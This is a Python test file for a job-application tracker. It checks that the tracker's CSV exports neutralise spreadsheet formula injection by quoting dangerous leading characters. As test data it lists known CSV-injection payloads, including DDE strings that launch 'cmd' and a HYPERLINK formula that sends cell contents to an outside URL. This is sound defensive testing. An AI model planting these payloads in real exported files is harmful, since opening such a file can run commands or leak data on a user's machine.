"""CSV injection: no cell we write starts a formula in a spreadsheet (issue 13, item 6)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from followup_gui.importers.exchange import to_csv
from followup_gui.model import ContactPerson, Document
from followup_gui.reports.csv_cells import TRIGGERS, restore, safe_cell, safe_row
from followup_gui.reports.report import activity_report, as_csv

from .factories import d, make_app

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka här")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "+",
    "=",
    "@",
    "\t",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_gets_a_quote_in_front(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "+46 70 123 45 67",
        "+46 (0)70-123 45 67",
        "+44 (0)20 7946 0958",
        "+1 (406) 257-2255",
        "-12",
        "-3.5",
        "-2026-05-15",
    ],
)
def test_numbers_phone_numbers_and_dates_stay_as_written(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    ["Ekonomiassistent", "2026-05-15", "070-123 45 67", "a=b", "Säljare - Malmö", " Anna", ""],
)
def test_ordinary_text_is_untouched(value: str) -> None:
    assert safe_cell(value) == value


def test_a_quote_the_user_wrote_survives_a_round_trip() -> None:
    assert safe_cell("'=not a formula") == "''=not a formula"
    assert restore("''=not a formula") == "'=not a formula"
    assert safe_cell("'quoted") == "'quoted"
    assert restore("'quoted") == "'quoted"


def test_rows_and_non_text_values() -> None:
    assert safe_row(["=1", 3, None, "+46 70 123 45 67"]) == ["'=1", "3", "", "+46 70 123 45 67"]


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula_and_restore_undoes_it(value: str) -> None:
    cell = safe_cell(value)
    assert restore(cell) == value
    first = cell.lstrip(" \t\r\n")[:1]
    if first in TRIGGERS or cell[:1] in TRIGGERS:
        assert cell == value  # only plain numbers are left as written
        assert not any(c.isalpha() for c in cell)


@given(st.sampled_from(sorted(TRIGGERS)), st.text(max_size=20))
def test_every_trigger_with_a_letter_is_neutralised(trigger: str, rest: str) -> None:
    value = trigger + "x" + rest
    assert safe_cell(value) == "'" + value


def hostile_document() -> Document:
    app = make_app(
        job_title='=HYPERLINK("http://example.invalid","Klicka")',
        company="+cmd|' /C calc'!A0",
        notes="@SUM(1+1)",
        contact=ContactPerson(name="-Anna", email="anna@example.se", phone="+46 70 123 45 67"),
    )
    return Document(applications=[app])


@pytest.mark.parametrize(("lang", "delimiter"), [("sv", ";"), ("en", ",")])
def test_the_csv_export_neutralises_every_cell(lang: str, delimiter: str) -> None:
    text = to_csv(hostile_document(), dt.datetime(2026, 5, 10, 9, 0), lang)  # type: ignore[arg-type]
    header, row = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    cells = dict(zip(header, row, strict=True))
    title, company, phone = (("Tjänst", "Företag", "Telefon"), ("Job", "Company", "Phone"))[
        lang == "en"
    ]
    assert cells[title] == '\'=HYPERLINK("http://example.invalid","Klicka")'
    assert cells[company] == "'+cmd|' /C calc'!A0"
    assert cells[phone] == "+46 70 123 45 67"
    assert "'@SUM(1+1)" in row and "'-Anna" in row
    assert not any(cell[:1] in TRIGGERS for cell in row if cell != "+46 70 123 45 67")


def test_the_report_csv_neutralises_every_cell() -> None:
    app = make_app(
        job_title="=1+2",
        company="@evil",
        applied_on=d("2026-11-02"),
    )
    report = activity_report(Document(applications=[app]), "2026-11")
    rows = list(csv.reader(io.StringIO(as_csv(report, "sv")), delimiter=";"))
    assert len(rows) == 2
    assert rows[1][2:4] == ["'@evil", "'=1+2"]
